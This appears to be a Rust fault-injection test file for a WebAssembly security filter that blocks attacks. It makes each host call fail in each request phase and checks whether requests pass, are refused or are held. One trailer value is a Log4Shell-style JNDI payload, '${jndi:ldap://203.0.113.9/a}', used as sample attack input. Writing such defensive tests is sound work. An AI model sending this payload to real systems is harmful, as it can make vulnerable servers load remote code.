//! Each host call made to fail with each status in each phase of a request, of the start and of a config.
//!
//! What is made to fail is found by watching: a request without faults shows which calls a phase makes, and each of these is
//! then made to fail, alone and with all that follow.

use std::rc::Rc;

use wasmtime::{Error, Result};

use crate::faults::{CAS_MISMATCH, Call, NOT_FOUND, Plan, STATUSES};
use crate::host::{Host, PAUSE};
use crate::module::{Callback, Module, Vm};
use crate::pairs::{self, SPOILERS};
use crate::traffic::{self, ALLOW, Config, DENY, Kind};

/// The id of the plugin's context.
const PLUGIN: u32 = 1;

/// A request, and where its attack stands if it is one.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Scenario {
    Harmless,
    AttackInHead,
    AttackInBody,
    AttackInTrailers,
}

const SCENARIOS: [Scenario; 4] =
    [Scenario::Harmless, Scenario::AttackInHead, Scenario::AttackInBody, Scenario::AttackInTrailers];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Phase {
    Create,
    Headers,
    Body,
    Trailers,
    ResponseHeaders,
    CallResponse,
    Delete,
    Tick,
}

const PHASES: [Phase; 8] = [
    Phase::Create,
    Phase::Headers,
    Phase::Body,
    Phase::Trailers,
    Phase::ResponseHeaders,
    Phase::CallResponse,
    Phase::Delete,
    Phase::Tick,
];

/// What became of a request.
#[derive(Clone, Debug, PartialEq, Eq)]
enum Outcome {
    Passed,
    Refused(u32, String),
    /// Stopped without an answer, because the host took none.
    Held,
}

impl Outcome {
    /// Whether both are the same, whichever rule it was.
    fn is_like(&self, other: &Self) -> bool {
        match (self, other) {
            (Self::Refused(status, _), Self::Refused(other, _)) => status == other,
            _ => self == other,
        }
    }
}

/// How a request went.
struct Played {
    outcome: Outcome,
    /// The calls that each phase made.
    made: Vec<(Phase, Vec<Call>)>,
    /// Calls that failed.
    failed: u64,
    /// How much `backstop_failures` has grown.
    counted: u64,
}

/// Figures of the whole part.
#[derive(Default)]
pub struct Figures {
    pub cases: u64,
    pub callbacks: u64,
    pub calls: u64,
    pub failed_calls: u64,
}

/// Plays all cases; an error says which one went wrong, and how.
pub fn run(module: &Module) -> Result<Figures> {
    let mut figures = Figures::default();
    for config in [DENY, ALLOW] {
        let mut stage = Stage::open(module, config, Plan::Nothing)?;
        for scenario in SCENARIOS {
            stage.fail_each_call(scenario)?;
        }
        stage.spoil_maps()?;
        stage.refuse_memory()?;
        stage.close(&mut figures)?;
        fail_configs(module, config, &mut figures)?;
    }
    Ok(figures)
}

/// A VM with one plugin, on which one request after the other is played.
struct Stage {
    vm: Vm,
    config: Config,
    next: u32,
    cases: u64,
}

impl Stage {
    /// A configured VM; the plan is for the config.
    fn open(module: &Module, config: Config, plan: Plan) -> Result<Self> {
        let mut vm = module.start(Host::new(1))?;
        vm.host().brought.config = config.json.as_bytes().into();
        vm.host().brought.call_headers = pairs::write(&[(b":status".to_vec(), b"200".to_vec())]).into();
        vm.call(Callback::Create { id: PLUGIN, plugin: 0 })?;
        vm.host().plan = plan;
        vm.call(Callback::Configure { plugin: PLUGIN, bytes: 1 })?;
        vm.host().plan = Plan::Nothing;
        Ok(Self { vm, config, next: PLUGIN + 1, cases: 0 })
    }

    fn close(mut self, figures: &mut Figures) -> Result<()> {
        figures.cases += self.cases;
        figures.callbacks += self.vm.callbacks;
        figures.calls += self.vm.host().calls;
        figures.failed_calls += self.vm.host().failed_calls;
        match self.vm.host().complaints.first() {
            Some(complaint) => Err(Error::msg(complaint.clone())),
            None => Ok(()),
        }
    }

    fn fail_each_call(&mut self, scenario: Scenario) -> Result<()> {
        let plain = self.play(scenario, Phase::Create, Plan::Nothing)?;
        let expected = if scenario == Scenario::Harmless { "Passed" } else { "Refused(403" };
        if !format!("{:?}", plain.outcome).starts_with(expected) || plain.counted != 0 {
            return Err(Error::msg(format!("{scenario:?} without a fault: {:?}", plain.outcome)));
        }
        for phase in PHASES {
            let made: Vec<Call> =
                plain.made.iter().filter(|(p, _)| *p == phase).flat_map(|(_, calls)| calls.clone()).collect();
            for (index, call) in made.iter().enumerate() {
                let skip = u32::try_from(made[..index].iter().filter(|other| *other == call).count())?;
                for (status, every) in STATUSES.iter().flat_map(|status| [(*status, false), (*status, true)]) {
                    let plan = Plan::One { call: *call, skip, every, status };
                    let played = self.play(scenario, phase, plan)?;
                    self.judge(scenario, phase, plan, &plain.outcome, &played).map_err(|why| {
                        let config = if self.config.denies_failures { "deny" } else { "allow" };
                        Error::msg(format!("{scenario:?}, onFailure {config}, {phase:?}, {plan:?}: {why}"))
                    })?;
                }
            }
        }
        Ok(())
    }

    /// Whether a request went as it must when this call fails in this phase.
    fn judge(
        &self,
        scenario: Scenario,
        phase: Phase,
        plan: Plan,
        plain: &Outcome,
        played: &Played,
    ) -> std::result::Result<(), String> {
        let Plan::One { call, every, status, .. } = plan else { return Ok(()) };
        let outcome = &played.outcome;
        let is_attack = scenario != Scenario::Harmless;
        if call == Call::SendResponse {
            let expected = if every { Outcome::Held } else { plain.clone() };
            return if outcome.is_like(&expected) {
                Ok(())
            } else {
                Err(format!("{outcome:?}, expected {expected:?}"))
            };
        }
        if !must_count(call, phase, status, every) {
            return match played.counted {
                0 if outcome.is_like(plain) => Ok(()),
                counted => Err(format!("{outcome:?} and {counted} failures, expected {plain:?} and none")),
            };
        }
        if played.failed == 0 {
            return Err("was not made again".to_owned());
        }
        if played.counted == 0 {
            return Err(format!("{outcome:?}, and not counted"));
        }
        let hides_attack = matches!(call, Call::GetHeaders | Call::GetBuffer);
        let fits = match outcome {
            Outcome::Refused(503, details) => self.config.denies_failures && details.starts_with("backstop{failure:"),
            Outcome::Refused(403, _) => is_attack,
            Outcome::Passed => !self.config.denies_failures && (!is_attack || hides_attack),
            _ => false,
        };
        if fits { Ok(()) } else { Err(format!("{outcome:?}")) }
    }

    /// One request through all its phases, with the plan for one of them.
    fn play(&mut self, scenario: Scenario, faulty: Phase, plan: Plan) -> Result<Played> {
        self.cases += 1;
        self.bring(scenario);
        self.vm.host().forget_shared();
        let before = self.told_failures()?;
        let id = self.next;
        self.next += 1;
        let mut played = Played { outcome: Outcome::Passed, made: Vec::new(), failed: 0, counted: 0 };
        for phase in PHASES {
            let callback = match phase {
                Phase::Create => Callback::Create { id, plugin: PLUGIN },
                Phase::Headers => Callback::RequestHeaders { id, count: 9, end: 0 },
                Phase::Body => {
                    let bytes = u32::try_from(self.vm.host().brought.body.len())?;
                    Callback::RequestBody { id, bytes, end: u32::from(scenario == Scenario::AttackInBody) }
                }
                Phase::Trailers => Callback::RequestTrailers { id, count: 1 },
                Phase::ResponseHeaders => Callback::ResponseHeaders { id, count: 2, end: 0 },
                Phase::CallResponse => {
                    Callback::CallResponse { plugin: PLUGIN, call: 1, headers: 1, body: 0, trailers: 0 }
                }
                Phase::Delete => Callback::Delete { id },
                Phase::Tick => Callback::Tick { plugin: PLUGIN },
            };
            if callback.is_of_request() && played.outcome != Outcome::Passed {
                continue;
            }
            self.vm.host().plan = if phase == faulty { plan } else { Plan::Nothing };
            let answer = self.vm.call(callback)?;
            let seen = self.vm.host().seen.clone();
            played.failed += seen.failed;
            if callback.is_of_request() {
                let is_held = phase == Phase::Body && scenario != Scenario::AttackInBody;
                played.outcome = match seen.replies.first() {
                    Some((status, details)) => Outcome::Refused(*status, details.clone()),
                    None if seen.replies_not_taken > 0 || (answer == PAUSE && !is_held) => Outcome::Held,
                    None => Outcome::Passed,
                };
                if answer != PAUSE && played.outcome != Outcome::Passed {
                    return Err(Error::msg(format!("{scenario:?}: goes on although it is refused")));
                }
            }
            played.made.push((phase, seen.made));
        }
        self.vm.host().plan = Plan::Nothing;
        played.counted = self.told_failures()? - before;
        Ok(played)
    }

    /// Fills the host with what the scenario needs.
    fn bring(&mut self, scenario: Scenario) {
        let random = self.vm.random();
        let kind = |here: Scenario| if scenario == here { Kind::Attack } else { Kind::Harmless };
        let mut head = traffic::head(kind(Scenario::AttackInHead), "POST", random);
        // Without it the host is asked for the peer.
        head.retain(|(name, _)| name != b"x-forwarded-for");
        head.iter_mut()
            .filter(|(name, _)| name == b":path" && scenario != Scenario::AttackInHead)
            .for_each(|(_, path)| *path = b"/pay/42".to_vec());
        let body = traffic::body(kind(Scenario::AttackInBody), random);
        if scenario == Scenario::AttackInTrailers {
            head.push((b"content-length".to_vec(), body.len().to_string().into_bytes()));
        }
        let trailer: &[u8] =
            if scenario == Scenario::AttackInTrailers { b"${jndi:ldap://203.0.113.9/a}" } else { b"5d41402abc4b2a76" };
        let trailers = pairs::write(&[(b"x-checksum".to_vec(), trailer.to_vec())]);
        let peer = format!("192.0.2.{}:1024", random.u8(..)).into_bytes();
        let brought = &mut self.vm.host().brought;
        brought.headers = pairs::write(&head).into();
        (brought.body, brought.trailers, brought.peer) = (body, trailers.into(), peer.into());
    }

    fn told_failures(&mut self) -> Result<u64> {
        self.vm.call(Callback::Tick { plugin: PLUGIN })?;
        Ok(self.vm.host().counter("backstop_failures"))
    }

    /// Head and trailers in maps with something wrong, each of which is one failure.
    fn spoil_maps(&mut self) -> Result<()> {
        for turn in 0..200 * SPOILERS {
            self.bring(Scenario::Harmless);
            self.vm.host().forget_shared();
            let before = self.told_failures()?;
            let id = self.next;
            self.next += 1;
            self.cases += 1;
            let in_trailers = turn % 2 == 0;
            let whole = if in_trailers {
                self.vm.host().brought.trailers.clone()
            } else {
                self.vm.host().brought.headers.clone()
            };
            let spoilt: Rc<[u8]> = pairs::spoil(whole.to_vec(), turn % SPOILERS, self.vm.random()).into();
            if pairs::is_well_formed(&spoilt) {
                continue;
            }
            let brought = &mut self.vm.host().brought;
            if in_trailers {
                brought.trailers = spoilt
            } else {
                brought.headers = spoilt
            }
            self.vm.call(Callback::Create { id, plugin: PLUGIN })?;
            let mut replies = Vec::new();
            for callback in [
                Callback::RequestHeaders { id, count: 9, end: 0 },
                Callback::RequestBody { id, bytes: 10, end: 0 },
                Callback::RequestTrailers { id, count: 1 },
            ] {
                let answer = self.vm.call(callback)?;
                replies.extend(self.vm.host().seen.replies.clone());
                if !replies.is_empty() && answer != PAUSE {
                    return Err(Error::msg("a stream that is refused goes on"));
                }
            }
            self.vm.call(Callback::Delete { id })?;
            let counted = self.told_failures()? - before;
            let expected: &[(u32, String)] = if self.config.denies_failures {
                &[(503, "backstop{failure:get-header-map-pairs}".to_owned())]
            } else {
                &[]
            };
            if replies != expected || counted != 1 {
                return Err(Error::msg(format!(
                    "a broken map: {replies:?} and {counted} failures, expected {expected:?} and 1"
                )));
            }
        }
        Ok(())
    }

    /// A body for which the VM gets no more memory: it has none to give to the host, which says so.
    fn refuse_memory(&mut self) -> Result<()> {
        self.bring(Scenario::Harmless);
        let before = self.told_failures()?;
        let id = self.next;
        self.next += 1;
        self.cases += 1;
        self.vm.call(Callback::Create { id, plugin: PLUGIN })?;
        self.vm.call(Callback::RequestHeaders { id, count: 9, end: 0 })?;
        let bytes = self.vm.memory_bytes();
        self.vm.host().memory_limit.0 = bytes;
        // More than it was asked to hand over, and more than there is room for.
        self.vm.host().brought.body = vec![b'a'; bytes].into();
        self.vm.host().gives_all = true;
        self.vm.call(Callback::RequestBody { id, bytes: 1000, end: 1 })?;
        let replies = self.vm.host().seen.replies.clone();
        self.vm.host().gives_all = false;
        self.vm.host().memory_limit.0 = usize::MAX;
        self.vm.call(Callback::Delete { id })?;
        let counted = self.told_failures()? - before;
        if replies.is_empty() == self.config.denies_failures || counted != 1 {
            return Err(Error::msg(format!("no memory for a body: {replies:?} and {counted} failures")));
        }
        // What does not fit any memory gets a null at once.
        for bytes in [u32::MAX, 1 << 31, (1 << 31) - 1] {
            self.vm.host().memory_limit.0 = 1 << 30;
            if self.vm.call(Callback::Allocate { bytes })? != 0 {
                return Err(Error::msg(format!("{bytes} bytes were given")));
            }
            self.vm.host().memory_limit.0 = usize::MAX;
        }
        Ok(())
    }
}

/// Whether backstop must count a failure of this call in this phase, and obey `onFailure` or refuse an attack all the same.
fn must_count(call: Call, phase: Phase, status: u32, every: bool) -> bool {
    let of_request = matches!(phase, Phase::Headers | Phase::Body | Phase::Trailers);
    of_request
        && match call {
            Call::GetHeaders | Call::GetBuffer | Call::AddHeader | Call::RemoveHeader | Call::GetProperty => true,
            Call::GetShared => status != NOT_FOUND,
            // It is tried again, some times.
            Call::SetShared => status != CAS_MISMATCH || every,
            _ => false,
        }
}

/// Each call of the start and of a config made to fail; afterwards the filter either works or refuses everything.
fn fail_configs(module: &Module, config: Config, figures: &mut Figures) -> Result<()> {
    let mut stage = Stage::open(module, config, Plan::Nothing)?;
    let id = stage.next;
    stage.vm.call(Callback::Create { id, plugin: 0 })?;
    stage.vm.call(Callback::Configure { plugin: id, bytes: 1 })?;
    let mut made = stage.vm.host().seen.made.clone();
    stage.close(figures)?;
    made.sort_unstable();
    made.dedup();
    for (call, every) in made.iter().flat_map(|call| [(*call, false), (*call, true)]) {
        for status in STATUSES {
            let plan = Plan::One { call, skip: 0, every, status };
            let mut stage = Stage::open(module, config, plan)?;
            for scenario in [Scenario::Harmless, Scenario::AttackInHead] {
                let outcome = stage.play(scenario, Phase::Create, Plan::Nothing)?.outcome;
                let fits = match &outcome {
                    Outcome::Refused(503, details) => {
                        call == Call::GetBuffer && details == "backstop{failure:no-config}"
                    }
                    Outcome::Refused(403, _) => scenario == Scenario::AttackInHead,
                    Outcome::Passed => scenario == Scenario::Harmless,
                    _ => false,
                };
                if !fits || (call == Call::GetBuffer) != matches!(outcome, Outcome::Refused(503, _)) {
                    return Err(Error::msg(format!("a config under {plan:?}, then {scenario:?}: {outcome:?}")));
                }
            }
            stage.close(figures)?;
        }
    }
    Ok(())
}
